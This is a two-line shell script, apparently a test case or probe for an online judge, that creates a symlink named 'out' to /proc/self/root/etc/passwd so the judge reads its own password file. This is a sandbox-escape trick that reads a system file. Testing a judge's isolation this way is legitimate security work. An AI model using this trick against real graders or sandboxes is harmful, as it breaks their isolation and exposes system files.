#!/bin/sh
# Leads to a file of the judge.
ln -s /proc/self/root/etc/passwd out
